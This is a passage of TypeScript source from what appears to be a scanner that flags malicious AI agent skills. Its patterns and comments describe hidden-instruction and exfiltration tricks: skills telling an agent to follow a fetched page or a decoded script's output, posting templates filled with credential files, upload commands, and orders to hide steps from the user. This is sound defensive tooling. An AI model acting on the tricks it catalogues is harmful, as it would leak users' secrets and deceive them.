  for (const file of markdown) {
    const lines = file.text.split('\n');
    for (const [index, line] of lines.entries()) {
      const defined = PARAMETER_DEFINED.exec(line);
      const name = defined?.[1] ?? defined?.[2] ?? defined?.[3];
      if (name === undefined || !byParameter.has(name.toLowerCase())) continue;
      // The sentence and the list under it, up to a blank line that is not followed by more of the list.
      // A definition that is itself a list item ("- `c` — the working context: …") ends where the next item of that list
      // defines another parameter ("- `p` — the top picks"); items that only go on with it ("2. the branch name") are its own.
      const item = /^(\s*)(?:[-*+]|\d+[.)])\s/.exec(line)?.[1];
      const sibling = item === undefined ? undefined : new RegExp(`^${item}(?:[-*+]|\\d+[.)])\\s+${PARAMETER_NAMED}`, 'i');
      let end = index;
      while (end + 1 < lines.length && end - index < 16 && !sibling?.test(lines[end + 1]!) && (lines[end + 1]!.trim() !== '' ? !/^\s*#/.test(lines[end + 1]!) : sibling === undefined && /^\s*(?:[-*+]|\d+[.)])\s/.test(lines[end + 2] ?? ''))) end += 1;
      const block = lines.slice(index, end + 1);
      const secret = block.map((text) => secretTaken(text.replace(/\b(?:not|never|no|without)\b[^.\n]*/gi, ' '))).find((found) => found !== undefined);
      if (secret === undefined) continue;
      const address = byParameter.get(name.toLowerCase())!;
      return [{ file: file.path, line: index + 1, evidence: shown(`${address} ⏎ … ⏎ ${block.join(' ').trim()}`), origin: 'prose', secret, sink: { kind: 'network', text: 'the query of an address the skill builds', hosts: destinations(address) }, userTarget: false, documentation: false }];
    }
  }
  return [];
}

/** A query parameter written in code and defined in words ("`k` is the base64 of …", "`k`: the token …", "set `k` to …"). */
/** A parameter's name in code or bold and what joins it to its definition ("`k` is", "**c** —"). */
const PARAMETER_NAMED = String.raw`(?:\`([\w.-]{1,20})\`|\*\*([\w.-]{1,20})\*\*)\s*(?:is|=|holds|carries|contains|:|—|–|-{1,2})\s`;
const PARAMETER_DEFINED = new RegExp(String.raw`^\s*(?:[-*+]\s+|\d+[.)]\s+)?${PARAMETER_NAMED}|\b(?:set|fill|build|make)\s+\`([\w.-]{1,20})\`\s+(?:to|with|from|as)\b`, 'i');

/** An order to carry out what a fetched page lists ("work through every step the playbook lists", "apply each instruction the page gives"). */
const FOLLOWS_FETCHED = /\b(?:work\s+through|carry\s+out|follow|execute|perform|apply|complete|run)\s+(?:every|each|all(?:\s+of)?(?:\s+the)?|the)\s+(?:[\w-]+\s+){0,2}?(?:steps?|instructions?|items?|actions?|commands?|tasks?)\s+(?:that\s+)?(?:the|this|that|its)\s+(?:[\w-]+\s+)?(?:page|playbook|document|doc|runbook|checklist|guide|notes|file|response|reply|sheet)\s+(?:lists?|says?|contains?|gives?|describes?|includes?|has|prescribes?)\b/i;
/** The fetched page said to win over the skill ("the playbook is newer and wins", "the page takes precedence over this file"). */
const PAGE_WINS = /\b(?:playbooks?|pages?|documents?|docs?|runbooks?|checklists?|guides?|notes|sheets?|versions?)\s+(?:(?:is|are)\s+(?:newer|current|authoritative|the\s+latest)\s+and\s+|always\s+)?(?:wins?|prevails?|takes?\s+precedence|overrides?|supersedes?|governs?)\b|\b(?:overrides?|supersedes?|takes?\s+precedence\s+over)\s+(?:this\s+(?:file|skill|document)|these\s+instructions)\b/i;
/** Words that fetch a page. */
/** A pip command pinned by hash. */
const HASH_PINNED_PIP = /\bpip\d?(?:\.\d+)?\s+(?:install|download)\b[^\n]*\s--require-hashes\b/;

/** A webhook registered on a repository or organisation (`gh api repos/o/r/hooks --method POST`): its address is the party that receives every event. */
const WEBHOOK_REGISTERED = /\/(?:hooks|webhooks)\b|\bwebhooks?\b(?:[^.\n]|\.(?=\w)){0,80}?\b(?:https?|wss?):\/\//;
/** An app installed over the whole organisation (every repository, the workspace): the party is the address it comes from. */
const APP_INSTALLED = /\binstall\w*\b/i;

/** A step that runs what something fetched lists or asks for ("If it lists maintenance steps …, run them as given", "ask you to run housekeeping commands; carry those out"). */
const RUNS_WHAT_IT_LISTS = /\b(?:it|the\s+(?:page|notice|policy|playbook|document|response|reply|feed|status(?:\s+page)?|announcement|bulletin))\b[^.\n]{0,120}?\b(?:lists?|says?|contains?|gives?|includes?|asks?\s+(?:you\s+)?to\s+run|tells?\s+you\s+to\s+run)\b[^.\n]{0,160}?\b(?:(?:run|execute|carry\s+out|paste|perform)\s+(?:them|those|these|it)|carry\s+(?:them|those|these|it)\s+out)\b/i;
const FETCH_WORD = /\b(?:fetch|WebFetch|download|retrieve|curl|wget|pull|load|open|read)\w*\b/i;

/** Words that have the agent do what a printed text says ("carry out its steps", "follow the playbook", "the source of truth"). */
const FOLLOWS_PRINTED = /\b(?:execute|run|apply|carry\s+out|perform)\s+(?:each|every|all(?:\s+the)?|the)\s+(?:[\w-]+\s+){0,2}?(?:commands?|fix(?:es)?|steps?|lines?)\b[^.\n]{0,60}?\b(?:exactly\s+)?as\s+(?:printed|shown|output|listed|given)\b|\b(?:carry\s+out|follow|obey|execute|perform|run|apply|complete|do|work\s+through)\s+(?:all\s+(?:of\s+)?(?:the\s+)?|every\s+|each\s+|the\s+)(?:[\w-]+\s+){0,2}?(?:steps?|instructions?|commands?|actions?|items?|lines?)\s+(?:that\s+)?(?:(?:the\s+|it\s+|this\s+)?(?:[\w.\/-]+\s+)?(?:prints?|outputs?|returns?|emits?|renders?|produces?|lists?)\b|(?:(?:are|is)\s+)?(?:printed|output|emitted|returned|rendered|produced|listed)\s+by\b)|\b(?:carry\s+out|follow|obey|execute|perform|apply|complete|work\s+through|do)\s+(?:all\s+|every\s+|each\s+)?(?:of\s+)?(?:its|their)\s+(?:\w+\s+)?(?:steps?|instructions?|lines?|items?|procedures?|directions?|orders?|actions?)\b|\b(?:follow|carry\s+out|apply|obey|work\s+through)\s+(?:the\s+)?(?:printed|output|returned|decoded)\s+(?:\w+\s+)?(?:steps?|instructions?|playbook|procedure|runbook)\b|\b(?:whatever|what|everything)\s+it\s+(?:prints|outputs|says|returns|shows)\b|\bsource\s+of\s+truth\b|\b(?:is|as)\s+your\s+(?:runbook|instructions|checklist|playbook|orders)\b|\b(?:follow|carry\s+out|apply)\s+(?:the|that|this)\s+playbook\b|\b(?:follow|keep\s+to|stick\s+to)\s+its\s+(?:exact\s+)?(?:wording|output)\b/i;
/** Code that turns stored data back into text: base64, zlib/gzip/lzma/bz2, marshal, a Node buffer read as base64. */
const DECODES_DATA = /\b(?:b64decode|b85decode|a85decode|b32decode|decodebytes|atob|zlib\.decompress|gzip\.decompress|lzma\.decompress|bz2\.decompress|inflateSync|inflateRawSync|gunzipSync|brotliDecompressSync|marshal\.loads|bytes\.fromhex|unhexlify)\b|Buffer\.from\([^)\n]*['"](?:base64|hex)['"]/;
/** Code that prints what it made. */
const PRINTS = /\bprint\s*\(|\bconsole\.log\s*\(|\bprocess\.stdout\.write\s*\(|\bsys\.stdout\.write\s*\(|\bputs\b|\becho\b|\bWrite-(?:Output|Host)\b/;

/** A long encoded literal in a script (base64 or base85, no spaces), decoded at run time. */
const EMBEDDED_BLOB = /["'`](?:[A-Za-z0-9+/=_-]{200,}|(?=[^"'`\s]*[!#$%&()*;<>?@^{|}~])[!#-&(-~]{200,})["'`]/;

/** A step that runs a program: a fenced block or an inline command (`` `pytest -q` ``, `` `python3 scripts/x.py` ``). */
const RUNS_SOMETHING = /^\s*(?:```|~~~)|`(?:[\w./-]+\/)?(?:python\d?(?:\.\d+)?|node|bash|sh|npx|npm|pnpm|yarn|uv|pytest|make|cargo|go|ruby|deno|bun|\.\/[\w./-]+)\s[^`\n]*`/m;

/** A data file no reader can read as it is: binary, or one long run of base64 characters. */
function opaqueData(file: SourceFile): boolean {
  if (file.fileClass === 'binary') return true;
  if (file.fileClass !== 'text' || file.text.length < 200) return false;
  // A short first line may be a format's magic word (`CLKB2`); the rest is the payload.
  const body = /^[\w.:-]{1,16}\r?\n/.test(file.text) ? file.text.slice(file.text.indexOf('\n') + 1) : file.text;
  const compact = body.replace(/\s+/g, '');
  if (compact.length < 200 || compact.length < body.length * 0.95) return false;
  // Base64 and its URL-safe form, or base85/ascii85 (printable characters, no words, no structure of JSON or markup).
  return /^[A-Za-z0-9+/=_-]+$/.test(compact) || (/^[!-~]+$/.test(compact) && !/^(?:\{\s*["}]|\[\s*[[{"\d\]]|<[A-Za-z!?/]|")/.test(compact) && !/[A-Za-z]{12,}/.test(compact) && /[!#$%&()*;<>?@^`{|}~]/.test(compact));
}

/**
 * The agent told to carry out what a script of the skill prints (`python3 scripts/playbook.py WG000` "and carry out its
 * steps"; "playbooks are the source of truth"), where that script decodes a data file shipped in the skill that no reader
 * can read as it is (base64, compressed, XOR-ed): the instructions the agent follows are hidden until they run.
 */
export function followedDecoderActions(files: readonly SourceFile[], instructions: readonly Instruction[]): Action[] {
  // The encoded text may be a data file the script names, or a long literal in the script itself (`_SYNC = "c${^RJx…"`).
  const decoders = files.filter((file) => file.fileClass === 'text' && file.language !== 'markdown' && DECODES_DATA.test(file.text) && PRINTS.test(file.text) && (EMBEDDED_BLOB.test(file.text) || files.some((data) => data !== file && opaqueData(data) && file.text.includes(data.path.split('/').pop()!))));
  const followed = followedScript(files, instructions, decoders);
  if (followed === undefined) return [];
  const { order, script } = followed;
  return [{ file: order.file, line: order.line, evidence: shown(order.text), origin: order.origin, decodeFollow: `${script.path} decodes encoded text shipped with the skill and prints what the agent is told to carry out`, userTarget: false, documentation: false }];
}

/**
 * The agent told to carry out the steps a script of the skill prints ("Carry out the steps in order … follow its wording"),
 * where a step the script prints sends something to a fixed address and the script names stored secrets (`.env`, a CLI's
 * login file, `VERCEL_TOKEN`) for its steps to take: the agent gathers and sends them with its own tools, and nothing in
 * the skill's prose shows it.
 */
export function followedPrinterActions(files: readonly SourceFile[], instructions: readonly Instruction[], actions: readonly Action[]): Action[] {
  const printers = files.filter((file) => file.fileClass === 'text' && file.language !== 'markdown' && PRINTS_STEPS.test(file.text) && actions.some((action) => action.file === file.path && action.origin === 'string' && action.sink !== undefined && action.sink.hosts.some((host) => !isLocalHost(host))));
  const followed = followedScript(files, instructions, printers);
  if (followed === undefined) return [];
  const { order, script } = followed;
  // The secrets the script names, each at its line, and the printed steps that send: the step and the secret nearest to
  // it (within 40 lines) are the ones printed together; a stored file (`.env`, a CLI's login) before a variable's name.
  const lineAt = (index: number) => script.text.slice(0, index).split('\n').length;
  const secrets = [...script.text.matchAll(/(["'`])([^"'`\n]{1,200})\1/g)].flatMap((literal) => {
    const named = secretFileIn(literal[2]!) ?? (/^[A-Z][A-Z0-9]*_[A-Z0-9_]+$/.test(literal[2]!) && SECRET_ENV_NAME.test(literal[2]!) ? literal[2] : undefined);
    return named === undefined ? [] : [{ named, line: lineAt(literal.index), stored: secretFileIn(literal[2]!) !== undefined }];
  });
  const sends = actions.filter((action) => action.file === script.path && action.origin === 'string' && action.sink !== undefined && action.sink.hosts.some((host) => !isLocalHost(host)));
  const pairs = sends.flatMap((sending) => secrets.map((secret) => ({ sending, secret, distance: Math.abs(sending.line - secret.line) }))).filter((pair) => pair.distance <= 40).sort((a, b) => Number(b.secret.stored) - Number(a.secret.stored) || a.distance - b.distance);
  if (pairs.length === 0) return [];
  const { sending, secret } = pairs[0]!;
  return [{ file: sending.file, line: sending.line, evidence: `${shown(order.text)} ⏎ … ⏎ ${sending.evidence}`, origin: 'decoded', secret: secret.named, sink: sending.sink, userTarget: false, documentation: false }];
}

/** Code that prints steps for a reader: what {@link PRINTS} reads, and Go's and Rust's printers. */
const PRINTS_STEPS = new RegExp(`${PRINTS.source}|\\bfmt\\.Print|\\bprintln!?\\s*\\(`);

/**
 * The script of `candidates` whose output an order of the skill has the agent carry out, and that order: the script
 * named in the order's section, or in an earlier step when the order's own step runs nothing of its own.
 */
function followedScript(files: readonly SourceFile[], instructions: readonly Instruction[], candidates: readonly SourceFile[]): { order: Instruction; script: SourceFile } | undefined {
  if (candidates.length === 0) return undefined;
  for (const order of instructions) {
    const followed = order.documentation || order.script || order.origin !== 'prose' ? undefined : FOLLOWS_PRINTED.exec(unwrap(order.text))?.[0];
    if (followed === undefined) continue;
    // "Execute nothing from it … not a decoded string 'just to see what it prints'": a prohibition names what not to follow.
    const sentence = sentences(unwrap(order.text)).find((part) => part.includes(followed)) ?? '';
    // Only the clause that holds the order: "host quirks that are not in this file …, so follow its wording" orders it.
    const clause = sentence.slice(0, sentence.indexOf(followed)).split(/[,;:]\s*|\s(?:so|and|then)\s/).at(-1) ?? '';
    if (/\b(?:not|nothing|never|don't|do\s+not|no|without)\b/i.test(clause)) continue;
    // The section the order sits in, as written (its commands included): from its heading to the next.
    const lines = (files.find((file) => file.path === order.file)?.text ?? '').split('\n');
    const start = Math.max(0, Number(order.section) - 1);
    const next = lines.findIndex((line, index) => index > start && /^#{1,6}\s/.test(line));
    const section = lines.slice(start, next < 0 ? undefined : next).join('\n');
    // A script is named by its file name, or by its stem as a word when that is long enough to be its own ("Run the doctor with `--json`").
    const names = (text: string, file: SourceFile) => {
      const base = file.path.split('/').pop()!;
      const stem = base.replace(/\.\w+$/, '');
      return new RegExp(`(?<![\\w.-])${escapeRegExp(base)}\\b`).test(text) || (stem.length >= 5 && new RegExp(`\\bthe\\s+${stem.replace(/[^\w-]/g, '')}\\b`, 'i').test(text));
    };
    // The script may be run in an earlier step ("Render the playbook: `python3 scripts/playbook.py …`" then "Carry out every step
    // the renderer prints"), when the order's own step runs nothing of its own (a step that runs `pytest` means what pytest prints);
    // the steps between may only explain.
    let script = candidates.find((file) => names(section, file));
    for (let end = start, back = 0; script === undefined && back < 3 && !RUNS_SOMETHING.test(lines.slice(end, next < 0 ? undefined : next).join('\n')); back += 1) {
      const previous = lines.slice(0, end).findLastIndex((line) => /^#{1,6}\s/.test(line));
      if (previous < 0) break;
      const step = lines.slice(previous, end).join('\n');
      script = candidates.find((file) => names(step, file));
      if (script === undefined && RUNS_SOMETHING.test(step)) break;
      end = previous;
    }
    if (script !== undefined) return { order, script };
  }
  return undefined;
}

/**
 * A template the skill ships (`assets/pr-comment.md.tmpl` with `{{REGISTRY_AUTH}}` in it), a line of its
 * Markdown that says to fill one of its placeholders with a secret ("`{{REGISTRY_AUTH}}` | the auth string
 * stored in ~/.docker/config.json"), and an order that posts the filled template (`gh pr comment
 * --body-file`) in the file that names the template: the secret is published with it, wherever the three
 * are written. A placeholder in a hidden part of the template (an HTML comment) hides it too.
 */
export function filledTemplateActions(files: readonly SourceFile[], instructions: readonly Instruction[]): Action[] {
  const templates = new Map<string, Set<string>>();
  for (const file of files) {
    if (file.fileClass !== 'text' || !file.text.includes('{{')) continue;
    const names = new Set([...file.text.matchAll(MUSTACHE)].map((match) => match[1].toLowerCase()));
    if (names.size > 0) templates.set(file.path, names);
  }
  if (templates.size === 0) return [];
  const out: Action[] = [];
  for (const [path, names] of templates) {
    const base = path.split('/').pop() ?? path;
    // Where the template is named in an order, and a sink in the same file: the filled template is what it posts.
    const named = instructions.filter((instruction) => !instruction.script && !instruction.documentation && instruction.file !== path && instruction.text.includes(base));
    const sinks = instructions.filter((other) => named.some((at) => at.file === other.file) && !other.documentation && (first('forge-sink', other.text) !== undefined || (first('network-sink', other.text) !== undefined && destinations(other.text).length > 0)));
    // The order that posts a file (`gh pr comment --body-file`, `-F body=@f`): the filled template is a file; a literal `--body "…"` is not it.
    const sink = sinks.find((other) => POSTS_BODY.test(other.text));
    if (!sink) continue;
    const template = files.find((file) => file.path === path)!;
    const how = first('forge-sink', sink.text) ?? first('network-sink', sink.text) ?? sink.text;
    const posted: NonNullable<Action['sink']> = { kind: first('forge-sink', sink.text) !== undefined ? 'forge' : 'network', text: `${base} filled in and posted (${how.trim()})`, hosts: destinations(sink.text) };
    // The template's own comment above a placeholder says how to fill it ("<!-- the content of ~/.gem/credentials -->" then `{{gem_host_setup}}`).
    const templateLines = template.text.split('\n');
    templateLines.forEach((line, index) => {
      const field = /\{\{\s*([A-Za-z_][\w.-]{0,60})\s*\}\}/.exec(line)?.[1];
      if (field === undefined) return;
      let at = index - 1;
      while (at >= 0 && /^\s*(?:```[\w-]*|~~~[\w-]*)?\s*$/.test(templateLines[at]!)) at -= 1;
      if (at < 0 || !/-->\s*$/.test(templateLines[at]!)) return;
      let start = at;
      while (start > 0 && !templateLines[start]!.includes('<!--') && at - start < 12) start -= 1;
      const comment = templateLines.slice(start, at + 1).join(' ').replace(/<!--|-->/g, ' ');
      const taking = sentences(withoutCommandSpans(comment)).filter((sentence) => secretFileIn(sentence) !== undefined && !KEEPS_SECRET_OUT.test(sentence)).join(' ');
      const secret = FILLED_WITH_VALUE.test(comment) ? secretFileIn(taking) : undefined;
      if (!secret) return;
      out.push({
        file: path,
        line: index + 1,
        evidence: shown(`${templateLines.slice(start, at + 1).join(' ').trim()} ${line.trim()} ⏎ … ⏎ ${sink.text}`),
        origin: 'prose',
        secret,
        sink: posted,
        userTarget: false,
        documentation: false,
      });
    });
    for (const file of files) {
      if (file.language !== 'markdown' || file.path === path) continue;
      const lines = file.text.split('\n');
      lines.forEach((line, index) => {
        const field = [...line.matchAll(/\{\{\s*([A-Za-z_][\w.-]{0,60})\s*\}\}|`([A-Za-z_][\w.-]{0,60})`|^#{1,6}\s+([A-Za-z_][\w.-]{0,60})\s*$/g)].map((match) => (match[1] ?? match[2] ?? match[3]).toLowerCase()).find((name) => names.has(name));
        if (field === undefined) return;
        const level = /^(#{1,6})\s/.exec(line)?.[1].length;
        let secret: string | undefined;
        if (level !== undefined) {
          // A section headed by the field ("## planner_context") says how to fill it: a credential file's content, copied as it is.
          const end = lines.findIndex((other, at) => at > index && new RegExp(`^#{1,${level}}\\s`).test(other));
          const section = withoutCommandSpans(lines.slice(index + 1, end < 0 ? undefined : end).join('\n'));
          // Only the sentences that take the file (not "take only the URL from ~/.npmrc; never copy the token line").
          const taking = sentences(section).filter((sentence) => secretFileIn(sentence) !== undefined && !KEEPS_SECRET_OUT.test(sentence)).join(' ');
          secret = FILLED_WITH_VALUE.test(section) ? secretFileIn(taking) : undefined;
        } else {
          // The secret is what fills the field: named after the field, on its line.
          const plain = withoutCommandSpans(line);
          const after = plain.slice(plain.toLowerCase().indexOf(field) + field.length);
          secret = FILLED_WITH_VALUE.test(after) && !KEEPS_SECRET_OUT.test(after) ? secretTaken(after) : undefined;
        }
        if (!secret) return;
        const hidden = new RegExp(`<!--(?:(?!-->)[\\s\\S])*\\{\\{\\s*${field.replace(/[.]/g, '\\.')}\\s*\\}\\}`, 'i').test(template.text);
        const conceal = concealmentIn(file.text) ?? (hidden ? 'a placeholder inside an HTML comment of the template, not shown where it is posted' : undefined);
        out.push({
          file: file.path,
          line: index + 1,
          evidence: shown(`${line.trim()} ⏎ … ⏎ ${sink.text}`),
          origin: 'prose',
          secret,
          sink: posted,
          ...(conceal ? { conceal } : {}),
          userTarget: false,
          documentation: false,
        });
      });
    }
  }
  return out;
}

/** Concealment that only skips asking ("without asking", "no need to ask for confirmation"), hiding nothing. */
const QUESTION_SKIPPED = /^\s*(?:without\s+(?:asking|prompting|confirming|(?:any\s+|an?\s+)?(?:separate\s+|explicit\s+|extra\s+|further\s+|additional\s+)?(?:confirmation|prompting|prompt|approval|sign-?off))|(?:do\s+not|don't|never|no\s+need\s+to)\s+(?:ask|wait)\b.*)\s*$/i;

/**
 * One file's steps bound by concealment. A file that keeps something from the user ("do not narrate
 * steps 2 and 3 in chat") while one step gathers a credential file and another sends a body off the
 * machine has scattered one act over its sections (the files in a table, the request in a later step,
 * the host in a list of endpoints). Read together they are that act; an honest skill hides nothing.
 */
export function concealedFileActions(actions: readonly Action[], instructions: readonly Instruction[]): Action[] {
  const out: Action[] = [];
  const files = new Set(actions.map((action) => action.file));
  for (const file of files) {
    const own = actions.filter((action) => action.file === file && !action.documentation && action.origin !== 'string' && action.origin !== 'decoded');
    // Skipping a question ("use it without asking") binds nothing: the file must keep something from the user.
    const conceal = own.find((action) => action.conceal !== undefined && !QUESTION_SKIPPED.test(action.conceal));
    const source = own.find((action) => action.secret !== undefined && (SENSITIVE_FILE.test(action.secret) || DOTENV_FILE.test(` ${action.secret}`) || hasWord('machine-secret', action.secret)));
    const sink = own.find((action) => action.sink !== undefined && action.sink.kind !== 'synced');
    // Access or money handed to a party the skill supplies, in a file that keeps something from the user
    // ("do not quote the account in your reply"), is what is hidden, however far apart the two are; the
    // user's own account named beside the grant ("swept to the user's own account") is no consent to it.
    const hiddenGrant = conceal === undefined ? undefined : own.find((action) => action.grant?.party !== undefined && action.conceal === undefined && !action.grant.party.startsWith(ANYONE));
    if (conceal && hiddenGrant) out.push({ ...hiddenGrant, evidence: shown(`${hiddenGrant.evidence} ⏎ … ⏎ ${conceal.evidence}`), conceal: conceal.conceal, consent: undefined, userTarget: false });
    // An image the client fetches on render, its query filled in by the agent, in a file that keeps
    // something from the user: whatever fills it leaves the machine unseen (the roster, the user's email).
    // The user's safety nets removed (git's reflog expired, every remote branch overwritten) in a file that keeps
    // something from the user or takes the step out of their hands: the loss is what is hidden.
    // The step may be a script the file has the agent run (`Run scripts/sync.sh … no need to ask the developer each time`).
    const scriptsRun = new Set(instructions.filter((instruction) => instruction.file === file && !instruction.script).flatMap((instruction) => instruction.text.match(/[\w.-]+\.(?:sh|bash|py|js|mjs|ts|rb|ps1|pl)\b/g) ?? []));
    const hiddenDefence = conceal === undefined ? undefined : [...own, ...actions.filter((action) => action.file !== file && scriptsRun.has(action.file.split('/').pop()!))].find((action) => action.defence !== undefined && action.conceal === undefined);
    if (conceal && hiddenDefence) out.push({ ...hiddenDefence, evidence: shown(`${hiddenDefence.evidence} ⏎ … ⏎ ${conceal.evidence}`), conceal: conceal.conceal, consent: undefined, userTarget: false });
    const filledImage = own.find((action) => action.sink !== undefined && action.sink.hosts.length > 0 && (FILLED_IMAGE_QUERY.test(action.sink.text) || fetchedOnOpen(action.sink.text)));
    if (conceal && !source && filledImage && !own.some((action) => (action.secret || action.context) && action.sink)) {
      out.push({ ...filledImage, evidence: shown(`${filledImage.evidence} ⏎ … ⏎ ${conceal.evidence}`), context: 'the values the agent fills into the image URL', conceal: conceal.conceal, consent: undefined, userTarget: false });
      continue;
    }
    // A file whose order is to gather credentials from the user's machine and keep quiet about it (a
    // subagent's brief: "copy them verbatim … do not ask for confirmation") hides the gathering itself.
    if (conceal && source && !sink && source.secret !== undefined && hasWord('machine-secret', source.secret) && COPIES_OUT.test(source.evidence) && !ROUTINE_CONSENT.test(conceal.conceal ?? '')) {
      out.push({ ...source, evidence: shown(`${source.evidence} ⏎ … ⏎ ${conceal.evidence}`), conceal: conceal.conceal, consent: undefined, userTarget: false });
      continue;
    }
    if (!conceal || !source || !sink || own.some((action) => action.secret && action.sink)) continue;
    // The request's host may be named anywhere in the file (a table of endpoints): every destination that is not a package registry.
    const named = [...new Set(instructions.filter((instruction) => instruction.file === file && !instruction.script).flatMap((instruction) => destinations(instruction.text)))].filter((host) => !isPackageRegistry(host));
    out.push({
      ...source,
      evidence: shown(`${source.evidence} ⏎ … ⏎ ${sink.evidence} ⏎ … ⏎ ${conceal.evidence}`),
      sink: { ...sink.sink!, hosts: sink.sink!.hosts.length > 0 ? sink.sink!.hosts : named },
      conceal: conceal.conceal,
      consent: undefined,
      userTarget: false,
    });
  }
  return out;
}

/** A destination whose address sits in a configuration file ("the run registry named in `assets/harness.toml`"): a fixed place, not one the user names. */
const CONFIGURED_DESTINATION = /\b(?:to|with|at|into)\s+(?:the\s+|its\s+|our\s+|their\s+)?(?:[\w-]+\s+){0,3}?(?:(?:named|listed|given|configured|defined|specified|found|kept)\s+)?(?:in|from|at)\s+`?(?:[\w.-]{1,60}\/){0,3}[\w-]{1,60}(?:\.[\w-]{1,20}){0,2}\.(?:json|ya?ml|toml|ini|cfg|conf)\b/i;

/** Forge text put where everyone can read it: a public gist, snippet or repository. */
const PUBLISHED_TO_ALL = /--public\b|\bpublic\s+(?:gists?|snippets?|repo(?:sitory)?|pastes?)\b|\b(?:listed|visible|readable)\s+(?:for|to)\s+(?:everyone|anyone)\b/i;

/** Lines within which an order to keep something from the user covers a flow of data out (one list or passage). */
const CONCEAL_REACH = 12;
/** A command that uploads local files: curl's form and upload options, wget's and httpie's file bodies, scp, rsync and sftp to a host. */
const FILE_UPLOAD = /\b(?:scp|rsync|sftp)\s[^\n]*\s[\w.-]+@[\w.-]+:|\s(?:-F|--form)\s+["']?[\w.-]+=@|\s(?:--data-binary|--data|-d)\s+["']?@[^\s"']|\s(?:-T|--upload-file)\s+\S|\s--(?:post|body)-file[= ]\S|\s[\w.-]+@(?:\.{0,2}\/|~\/|[\w-]+\/)[^\s]*/;

/** A document formula or field that fetches a URL whenever the file is opened, its query built from the document (`=WEBSERVICE("https://…?x="&A1)`): the forge-sink words of vocabulary.yaml find it. */
function fetchedOnOpen(text: string): boolean {
  return /^(?:WEBSERVICE|IMPORT\w+|IMAGE|INCLUDE\w+)\s*\(/i.test(first('forge-sink', text) ?? '');
}
/** An element that loads a remote address when the markup is displayed. */
const REMOTE_ELEMENT = /<(?:img|iframe|script|link|video|audio|source|embed|object|image)\b[^>]*\b(?:src|href|data|xlink:href)\s*=\s*["']?https?:\/\//i;
/** A Markdown or HTML image whose query string the agent fills in (`…/badge.svg?class=<roster>&t={email}`). */
/** A URL whose query is filled with a value at run time (`?k=<k>`, `&v={piece}`, `?d=$d`). */
const FILLED_URL_QUERY = /https?:\/\/[^\s)"'`>]*\?[^\s)"'`>]*=(?:<[\w .-]{1,60}>|\{\{?\s*[\w.-]{1,40}\s*\}?\}|\$\{?\w+\}?)/i;
const FILLED_IMAGE_QUERY = /(?:!\[[^\]\n]*\]\(|<img\b[^>]*\bsrc\s*=\s*["']?)https?:\/\/[^)\s"'>]*\?[^)\s"'>]*=(?:<[\w -]{1,40}>|\{\{?\s*[\w.-]{1,40}\s*\}?\}|\$\{?\w+\}?)/i;

/** A single key or token spoken of in words ("the test secret key", "your API token"), never a private, deploy, signing or SSH key. */
const ONE_KEY_IN_WORDS = /\b(?:the|a|your|its|their|this)\s+(?:(?!private\b|deploy\b|signing\b|ssh\b)[\w-]+\s+){0,2}?(?:key|token)\b/i;

/** Words for more than one secret, or for the machine's own: never "the key" of one service. */
const MANY_SECRETS = /\b(?:all|every|any|credentials|passwords|keys|tokens|secrets|environment|files?|private|deploy|signing|ssh)\b/i;

/** The variable a text says holds the key or token (`with the key in \`STRIPE_SECRET_KEY\``), if it names one secret-looking variable so. */
function heldIn(text: string): string | undefined {
  const names = [...new Set([...text.matchAll(/\b(?:key|token)\s+(?:is\s+)?(?:in|from|stored\s+in|held\s+in|kept\s+in|read\s+from)\s+(?:the\s+)?[`'"]?\$?\{?([A-Z][A-Z0-9]*_[A-Z0-9_]+)\b/g)].map((match) => match[1]).filter((name) => SECRET_ENV_NAME.test(name)))];
  return names.length === 1 ? names[0] : undefined;
}

/** Credentials named in words ("which credentials the notebook depends on", "database passwords", "dotenv files"). */
const CREDENTIAL_WORDS = /\b(?:credentials|passwords|(?:api|access|auth|secret|private) keys|(?:access|auth|api|personal) tokens|dotenv(?:-style)? files|cloud (?:CLI )?profiles|credential (?:and [\w-]+ )?files|auth files|key ?pairs|private halves|both halves)\b/i;

/** Where gathered things are put to travel on together ("into `access/` inside the kit", "in the bundle"). */
const CONTAINER = /\b(?:into|inside|in|to)\s+(?:`[^`]{1,40}`\s+(?:inside|in)\s+)?(?:the|a|this|your)\s+(?:\w+\s+)?(kit|bundle|archive|package|tarball|zip|snapshot|handoff|hand-off|export|backup)\b/gi;

/** The folder a list's lead-in fills ("Put everything in a folder `support-bundle/`:", "into the directory `case-files`:"). */
const LISTED_FOLDER = /`((?:\.\/)?[\w.-]+)\/`|\b(?:folder|directory|dir)\s+(?:called\s+|named\s+)?`((?:\.\/)?[\w.-]+)\/?`/i;
/** An item that keeps a file's secrets as they are ("as it is", "unredacted", "don't mask them"). */
const KEPT_WHOLE = /\b(?:as\s+it\s+is|as-is|unredacted|unmasked|verbatim|in\s+full|(?:do\s+not|don't|never)\s+(?:mask|redact|scrub|strip)\w*)\b/i;
/** An item that has a file's secrets taken out first. */
const REDACTED = /\b(?:redact|mask|scrub|censor|placeholder)\w*/i;

/** Verbs that gather files for use ("Read each of the following files", "collect", "bundle"). */
const READS = /\b(?:read|collect|gather|copy|include|bundle|open|cat|concatenat|combin|merg)\w*\b|\b(?:raw\s+)?contents\s+of\b/i;

/** A step that gathers what a table lists: "for every row of Table A, place the source …", "copy each file listed above". */
const GATHERS_ROWS = /\b(?:for\s+(?:every|each)\s+(?:row|entry|line|item|source|file)\b[^.\n]{0,80}\b(?:place|copy|stage|put|collect|gather|include|add|read)\w*|(?:place|copy|stage|put|collect|gather|include)\w*\s+(?:every|each|all)\s+(?:row|entry|source|file)s?\s+(?:listed|above|below|in|of|from)\b)/i;

/** A name given to a URL in a table row or an assignment (`| \`SINK\` | \`https://…\` |`, `SINK=https://…`). */
const NAMED_URL = /`?\b([A-Z][A-Z0-9_]{2,})\b`?\s*(?:\||=|:)\s*[`'"]?(https?:\/\/[^\s`'"|)]+)/g;

/** Registrable domains of model APIs whose name differs from their variables' prefix. */
const VENDOR_DOMAINS: Record<string, string[]> = { GEMINI: ['googleapis.com'], GOOGLE: ['googleapis.com'], AZURE: ['azure.com'], CLAUDE: ['anthropic.com'], BEDROCK: ['amazonaws.com'], VERTEX: ['googleapis.com'], JIRA: ['atlassian.net', 'atlassian.com', 'jira.com'], ATLASSIAN: ['atlassian.net', 'atlassian.com'], LINEAR: ['linear.app'], NOTION: ['notion.com', 'notion.so'], DD: ['datadoghq.com', 'datadoghq.eu', 'ddog-gov.com'], DATADOG: ['datadoghq.com', 'datadoghq.eu', 'ddog-gov.com'] };

/**
 * Whether `host` is the vendor's own for a variable prefix (`ANTHROPIC` → `anthropic.com` and its
